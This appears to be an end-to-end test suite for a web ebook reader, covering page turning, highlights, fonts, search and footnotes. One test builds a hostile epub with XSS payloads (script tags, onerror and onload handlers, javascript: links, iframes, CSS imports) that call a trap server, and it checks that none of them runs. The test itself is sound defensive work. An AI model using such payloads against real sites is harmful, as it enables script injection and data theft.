import type { ServerApi } from '../../e2e/support/demo.ts';
import { openTrap, placeInAccount, shelve } from '../../e2e/support/reader.ts';
import { bookLibrary, booksOf } from '../../e2e/support/library.ts';
import { createEpub, paragraphs } from '../../support/epub.ts';
import { createMobi } from '../../support/mobi.ts';
import { expect, KEY, test } from '../driver/test.ts';
import { drawn, expectTurns, firstWord, readerOf, wordsInView } from '../support/reader.ts';

async function bookNamed(api: ServerApi, name: RegExp): Promise<string> {
  const book = (await booksOf(api, await bookLibrary(api))).find(({ media }) => name.test(media.metadata.title));
  if (!book) throw new Error(`The demo has no ${name}`);
  return book.id;
}

const chapters = ['One', 'Two', 'Three'].map((title) => ({ title, body: paragraphs(title, 30) }));

for (const [kind, name, make] of [
  ['an epub', 'Made.epub', () => createEpub({ chapters })],
  ['a mobi', 'Made.mobi', () => createMobi({ chapters })],
] as const) {
  test(
    `${kind} turns by keys, a press at its edge, the wheel and buttons, also after a press in the text`,
    { tag: KEY },
    async ({ view, open, tab, api, signIn }) => {
      const id = (await shelve(api, { [name]: make() })).get('Made');
      await signIn();
      await open(`/item/${id}`);
      await view.role('button', 'Read Made').press();
      const { reader, surface, position } = readerOf(view);
      await position.says(/Page 1 of/);
      await expect.poll(() => firstWord(tab)).toMatch(/^One-0-/);
      const { x, y, width } = await surface.place();
      await expectTurns(tab, [
        ['key', () => tab.key('ArrowRight'), 1],
        ['edge', () => tab.press({ x: x + width - 40, y: y + 200 }), 1],
        ['space after the press', () => tab.key('Space'), 1],
        ['button', () => reader.role('button', 'Previous page').press(), -1],
        ['wheel', () => tab.wheel({ x: x + 300, y: y + 200 }, 100), 1],
        ['key back', () => surface.focus().then(() => tab.key('PageUp')), -1],
      ]);
      const [word] = (await wordsInView(tab, 8)).slice(-1);
      if (word) await tab.press(word);
      await expectTurns(tab, [['key after a press in the text', () => tab.key('ArrowRight'), 1]]);
      await tab.key('Escape');
      await reader.gone();
    },
  );

  test(
    `${kind} is selected by dragging and highlighted, and its contents lead into it`,
    { tag: KEY },
    async ({ view, open, tab, api, signIn }) => {
      const id = (await shelve(api, { [name]: make() })).get('Made');
      await signIn();
      await open(`/item/${id}?read=main`);
      const { reader, position } = readerOf(view);
      await position.says(/Page 1 of/);
      await expect.poll(() => firstWord(tab)).toMatch(/^One-0-/);
      const words = await wordsInView(tab, 6);
      const [from, to] = [words[1], words[3]];
      if (!from || !to) throw new Error('The page has too few words');
      await tab.drag([{ x: from.x - 15, y: from.y }, from, to]);
      const menu = reader.role('toolbar', 'Selected words');
      await menu.role('button', 'Green').press();
      await menu.gone();
      await expect.poll(() => drawn(tab)).toEqual([expect.stringMatching(/^green: .*One-0-2/)]);
      await reader.role('button', 'Table of contents').press();
      await reader.role('complementary').role('button', 'Two').press();
      await position.says(/Two/);
      await expect.poll(() => firstWord(tab)).toMatch(/^Two-0-/);
    },
  );

  test(`${kind} is there again where it was, with larger letters`, async ({ view, open, tab, api, signIn, allow }) => {
    allow(/404/);
    const id = (await shelve(api, { [name]: make() })).get('Made') ?? '';
    await signIn();
    await open(`/item/${id}?read=main`);
    const { reader, position } = readerOf(view);
    await position.says(/Page 1 of/);
    await expect.poll(() => firstWord(tab)).toMatch(/^One-0-/);
    await reader.role('button', 'Reader settings').press();
    const settings = view.role('dialog', 'Reader settings');
    await settings.role('slider', 'Font size').focus();
    for (let step = 0; step < 5; step += 1) await tab.key('ArrowRight');
    await settings.words('125%').shown();
    await tab.key('Escape');
    await settings.gone();
    await expectTurns(tab, [
      ['key', () => tab.key('ArrowRight'), 1],
      ['key', () => tab.key('ArrowRight'), 1],
    ]);
    const word = await firstWord(tab);
    await expect.poll(() => placeInAccount(api, id)).toMatch(/^epubcfi\(/);
    await tab.reload();
    await expect.poll(async () => (await wordsInView(tab, 60)).map((one) => one.word)).toContain(word);
  });
}

test(
  'a hostile book runs nothing and calls no server; a link out of it is a question first',
  { tag: KEY },
  async ({ view, open, tab, api, signIn, allow }) => {
    allow(/./);
    const { calls, url, close } = await openTrap();
    const attack = `parent.hacked = true; fetch('${url}/fetch')`;
    const body = `<script>${attack}</script><script src="${url}/script.js"></script>
    <img src="${url}/image.png" onerror="${attack}" alt="Picture"/><img src="x" onerror="${attack}" alt="Broken"/>
    <p style="background: url(${url}/style.png)" onmouseover="${attack}">Quiet words.</p>
    <iframe src="${url}/frame"></iframe><object data="${url}/object"></object><embed src="${url}/embed"/>
    <svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"><image href="${url}/svg.png"/></svg>
    <p><a href="javascript:${attack}">Run it</a> <a href="${url}/link">Visit it</a></p>`;
    const head = `<meta http-equiv="refresh" content="0;url=${url}/refresh"/><link rel="stylesheet" href="${url}/sheet.css"/>
    <link rel="prefetch" href="${url}/prefetch"/><base href="${url}/"/>
    <style>@import url(${url}/import.css); body { background: url(${url}/background.png) }</style>`;
    const trapped = ['Trap', 'Next trap'].map((title) => ({ title, body, head }));
    const id = (await shelve(api, { 'Made.epub': createEpub({ chapters: trapped }) })).get('Made');
    await signIn();
    await open(`/item/${id}?read=main`);
    const { surface } = readerOf(view);
    await surface.words('Quiet words.').hover();
    await surface.words('Run it').press();
    await surface.words('Visit it').press();
    await view.words(new RegExp(`This book links to ${url}/link`)).shown();
    expect(await tab.evaluate(() => 'hacked' in window)).toBe(false);
    expect(calls).toEqual([]);
    await view.role('button', 'Cancel').press();
    await surface.words('Quiet words.').shown();
    expect(calls).toEqual([]);
    close();
  },
);

test(
  'a pdf is drawn, turned by key, and there again where it was',
  { tag: KEY },
  async ({ view, open, tab, api, signIn, allow }) => {
    allow(/404/);
    const id = await bookNamed(api, /Carol in Pages/);
    await signIn();
    await open(`/item/${id}?read=main`);
    const { reader, position } = readerOf(view);
    await position.says(/Page 1 of/);
    const ink = () =>
      tab.evaluate(() => {
        const canvas = document.querySelector<HTMLCanvasElement>('[aria-label="Page"] canvas');
        const { data } = canvas?.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
        let dark = 0;
        for (let at = 0; at < data.length; at += 4) if ((data[at] ?? 255) < 128) dark += 1;
        return dark / Math.max(1, data.length / 4);
      });
    await expect.poll(ink).toBeGreaterThan(0.001);
    await tab.key('ArrowRight');
    await position.says(/Page 2 of/);
    await expect.poll(() => placeInAccount(api, id)).toBe('2');
    await tab.reload();
    await position.says(/Page 2 of/);
    await tab.key('Escape');
    await reader.gone();
  },
);

test('a comic turns by key, edge and button', async ({ view, open, tab, api, signIn }) => {
  const id = await bookNamed(api, /^The Crow and the Pitcher$/);
  await signIn();
  await open(`/item/${id}?read=main`);
  const { reader, surface, position } = readerOf(view);
  await position.says(/Page 1 of 8/);
  const { x, y, width } = await surface.place();
  await tab.key('ArrowRight');
  await position.says(/Page 2 of 8/);
  await tab.press({ x: x + width - 40, y: y + 200 });
  await position.says(/Page 3 of 8/);
  await tab.key('Space');
  await position.says(/Page 4 of 8/);
  await reader.role('button', 'Previous page').press();
  await position.says(/Page 3 of 8/);
  const drawnPages = () =>
    tab.evaluate(
      () =>
        [...document.querySelectorAll<HTMLImageElement>('[aria-label="Page"] img')].filter(
          ({ naturalWidth, alt }) => naturalWidth > 0 && alt === 'Page 3',
        ).length,
    );
  await expect.poll(drawnPages).toBe(1);
});

test('a book is searched, and a link inside it leads to its place', async ({ view, open, tab, api, signIn }) => {
  const linked = [{ title: 'Start', body: '<p><a href="c2.xhtml">Go to two</a></p>' }, ...chapters];
  const id = (await shelve(api, { 'Made.epub': createEpub({ chapters: linked }) })).get('Made');
  await signIn();
  await open(`/item/${id}?read=main`);
  const { reader, surface, position } = readerOf(view);
  await surface.words('Go to two').press();
  await expect.poll(() => firstWord(tab)).toMatch(/^Two-0-/);
  await position.says(/Two/);
  await reader.role('button', 'Table of contents').press();
  const contents = reader.role('complementary');
  await contents.role('searchbox').press();
  await contents.role('searchbox').focused();
  await tab.type('Three-5-7');
  await contents.role('button', /Three-5-7 /).press();
  await expect.poll(async () => (await wordsInView(tab, 2000)).map(({ word }) => word)).toContain('Three-5-7');
});

test('words are selected and marked by keyboard alone', async ({ view, open, tab, api, signIn }) => {
  const id = (await shelve(api, { 'Made.epub': createEpub({ chapters }) })).get('Made');
  await signIn();
  await open(`/item/${id}?read=main`);
  const { reader, surface, position } = readerOf(view);
  await position.says(/Page 1 of/);
  await expect.poll(() => firstWord(tab)).toMatch(/^One-0-/);
  await surface.focus();
  await tab.key('h');
  const menu = reader.role('toolbar', 'Selected words');
  // Said once the selection rests; what Enter marks is what was said.
  await reader.words(/^Selected: One/).shown();
  // Engines and languages part words at hyphens or not.
  for (let words = 0; words < 8; words += 1) await tab.key('Shift+ArrowRight');
  await reader.words(/^Selected: One\S* One/).shown();
  await tab.key('Enter');
  await menu.role('button', 'Yellow').focused();
  await tab.key('Enter');
  await menu.gone();
  await expect.poll(() => drawn(tab)).toEqual([expect.stringMatching(/^yellow: One\S* One/)]);
});

test('a note of the book is read at its link, and leads to its place and back; an own note is kept with its words', async ({
  view,
  open,
  tab,
  api,
  signIn,
  allow,
}) => {
  allow(/404/);
  const body = `<p id="from">One-0-0 <a epub:type="noteref" href="c1.xhtml#note">See</a></p>${paragraphs('One', 20)}`;
  const aside = '<aside epub:type="footnote" id="note"><p>Noted <a href="c0.xhtml#from">Return</a></p></aside>';
  const noted = createEpub({
    chapters: [
      { title: 'One', body },
      { title: 'Two', body: paragraphs('Two', 20) + aside },
    ],
  });
  const id = (await shelve(api, { 'Made.epub': noted })).get('Made');
  await signIn();
  await open(`/item/${id}?read=main`);
  const { reader, surface, position } = readerOf(view);
  await position.says(/Page 1 of/);
  await surface.role('link', 'See').press();
  const note = reader.role('dialog', 'Note');
  await note.says(/Noted/);
  await position.says(/One/);
  await note.role('button', 'Go there').press();
  await note.gone();
  await position.says(/Two/);
  await surface.role('link', 'Return').press();
  await position.says(/One/);
  await expect.poll(() => firstWord(tab)).toBe('One-0-0');
  const words = await wordsInView(tab, 6);
  const [from, to] = [words[1], words[3]];
  if (!from || !to) throw new Error('The page has too few words');
  await tab.drag([{ x: from.x - 15, y: from.y }, from, to]);
  await reader.role('toolbar', 'Selected words').role('button', 'Yellow').press();
  await expect.poll(() => drawn(tab)).toEqual([expect.stringMatching(/^yellow: /)]);
  await reader.role('button', 'Highlights and bookmarks').press();
  const panel = reader.role('complementary', 'Highlights and bookmarks');
  await panel.role('button', /^Edit /).press();
  const editor = view.role('dialog', 'Highlight');
  await editor.role('textbox', 'Note').press();
  await tab.type('Why so');
  await tab.key('Escape');
  await editor.gone();
  await panel.words('Why so').shown();
  await tab.reload();
  await expect
    .poll(async () => (await drawn(tab)).toSorted())
    .toEqual([expect.stringMatching(/^noted: /), expect.stringMatching(/^yellow: /)]);
  await reader.role('button', 'Highlights and bookmarks').press();
  await panel.words('Why so').shown();
});
